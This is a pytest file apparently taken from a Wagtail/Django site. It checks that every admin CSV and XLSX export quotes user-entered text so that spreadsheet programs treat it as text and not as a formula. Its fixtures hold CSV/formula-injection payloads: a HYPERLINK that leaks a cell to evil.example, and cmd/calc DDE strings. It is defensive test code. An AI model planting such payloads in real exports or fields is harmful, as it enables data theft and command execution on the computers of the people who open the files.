"""Every spreadsheet the admin exports, in CSV and in XLSX, writes text that
someone else typed (a comment, a topic, a search, a title, a name) as text:
no cell a spreadsheet program would run as a formula."""

import csv
import datetime
import io
import re

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import URLResolver, get_resolver
from django.utils import timezone
from openpyxl.utils.escape import unescape
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.contrib.search_promotions.models import Query
from wagtail.models import GroupApprovalTask, Page, Workflow, WorkflowTask

from pages.common.spreadsheets import inert_cell
from pages.help.models import HelpFeedback, HelpRequest, TimeEntry
from pages.models import GuidePage, MentorPage, Unit

pytestmark = pytest.mark.django_db

# Each reaches a spreadsheet program as a formula when it starts a cell.
HOSTILE = {
    "equals": '=HYPERLINK("https://evil.example/?d="&A1,"Avaa")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")
LONG_AGO = datetime.date(2020, 1, 1)

# The admin's exports, by name.
EXPORTS = {
    "help feedback": "/admin/reports/help-feedback/",
    "mentoring time": "/admin/reports/mentoring-time/",
    "stale mentor profiles": "/admin/reports/stale-mentor-profiles/",
    "guides due for review": "/admin/reports/guides-due-for-review/",
    "locked pages": "/admin/reports/locked/",
    "workflows": "/admin/reports/workflow/",
    "workflow tasks": "/admin/reports/workflow_tasks/",
    "site history": "/admin/reports/site-history/",
    "aging pages": "/admin/reports/aging-pages/",
    "redirects": "/admin/redirects/",
    "search terms": "/admin/searchpicks/reports/search-terms/",
}


def export_views():
    """The address of every admin listing that offers an export."""

    def walk(resolver, prefix):
        for pattern in resolver.url_patterns:
            if isinstance(pattern, URLResolver):
                yield from walk(pattern, prefix + str(pattern.pattern))
                continue
            view = getattr(pattern.callback, "view_class", None)
            initkwargs = getattr(pattern.callback, "view_initkwargs", {})
            if (
                view
                and issubclass(view, SpreadsheetExportMixin)
                and initkwargs.get("list_export", view.list_export)
                and not initkwargs.get("results_only")
            ):
                yield "/" + prefix + str(pattern.pattern)

    return set(walk(get_resolver(), ""))


def hostile_user():
    user = get_user_model().objects.get(username="editor")
    user.first_name = HOSTILE["at"]
    user.last_name = HOSTILE["minus"]
    user.save()
    return user


@pytest.fixture
def hostile_content():
    """Something typed by someone else, starting like a formula, in each
    export."""
    author = hostile_user()
    unit = Unit.objects.filter(locale__language_code="fi").first()
    unit.name = HOSTILE["minus"]
    unit.save()

    mentor = MentorPage.objects.get(user__username="mentor", locale__language_code="fi")
    mentor.title = HOSTILE["equals"]
    mentor.job_title = HOSTILE["plus"]
    mentor.last_confirmed = LONG_AGO
    mentor.save_revision(user=author).publish(user=author)
    MentorPage.objects.filter(pk=mentor.pk).update(last_confirmed=LONG_AGO)
    TimeEntry.objects.create(mentor=mentor, minutes=30)

    requester = get_user_model().objects.get(username="staff")
    requester.first_name = HOSTILE["tab"]
    requester.save()
    for signed in [True, False]:
        help_request = HelpRequest.objects.create(
            requester=requester,
            mentor=mentor,
            unit=unit,
            need="Apua",
            tool=HOSTILE["plus"],
            language="fi",
            status=HelpRequest.Status.DONE,
            done_at=timezone.now(),
        )
        HelpFeedback.objects.create(
            request=help_request, rating=2, comment=HOSTILE["equals"], signed=signed
        )

    guide = GuidePage.objects.live().filter(locale__language_code="fi").first()
    guide.title = HOSTILE["equals"]
    guide.save_revision(user=author).publish(user=author)
    GuidePage.objects.filter(pk=guide.pk).update(last_reviewed=LONG_AGO)
    workflow = Workflow.objects.create(name=HOSTILE["at"])
    task = GroupApprovalTask.objects.create(name=HOSTILE["equals"])
    WorkflowTask.objects.create(workflow=workflow, task=task, sort_order=0)
    guide.save_revision(user=author)
    workflow.start(guide, author)
    Page.objects.filter(pk=guide.pk).update(
        locked=True, locked_by=author, locked_at=timezone.now()
    )

    Redirect.objects.create(old_path="/vanha", redirect_link=HOSTILE["return"])
    Query.get(HOSTILE["equals"]).add_hit()


def csv_cells(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response):
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    # XLSX writes a carriage return as "_x000D_".
    return [
        unescape(cell.value) if isinstance(cell.value, str) else cell.value
        for cell in cells
    ]


def runs_as_formula(cell):
    return (
        isinstance(cell, str)
        and cell.startswith(FORMULA_START)
        and not PLAIN_NUMBER.fullmatch(cell)
    )


def test_every_export_of_the_admin_is_tested_here():
    assert export_views() == set(EXPORTS.values())


@pytest.mark.parametrize("spreadsheet", ["csv", "xlsx"])
@pytest.mark.parametrize("name", EXPORTS)
def test_an_export_writes_what_others_typed_as_text(
    hostile_content, admin_client, name, spreadsheet
):
    response = admin_client.get(EXPORTS[name], {"export": spreadsheet})
    assert response.status_code == 200, name

    cells = (csv_cells if spreadsheet == "csv" else xlsx_cells)(response)

    assert [cell for cell in cells if runs_as_formula(cell)] == []
    # What was typed is there, shown as text.
    written = {comparable(f"'{value}") for value in HOSTILE.values()}
    assert any(
        isinstance(cell, str) and any(value in comparable(cell) for value in written)
        for cell in cells
    ), cells


def comparable(text):
    # Searches are kept in small letters; XLSX keeps a line break as "\n".
    return text.replace("\r", "\n").casefold()


def test_numbers_stay_numbers_and_text_starting_like_a_formula_is_quoted():
    assert inert_cell(-3) == -3
    assert inert_cell(-2.5) == -2.5
    assert inert_cell("-3") == "-3"
    assert inert_cell("-1,5") == "-1,5"
    assert inert_cell("+358") == "+358"
    assert inert_cell(None) is None
    assert inert_cell("Selkeä neuvonta") == "Selkeä neuvonta"
    for value in HOSTILE.values():
        assert inert_cell(value) == f"'{value}"
    assert inert_cell("-3+1") == "'-3+1"
    assert inert_cell("- hyvä apu") == "'- hyvä apu"
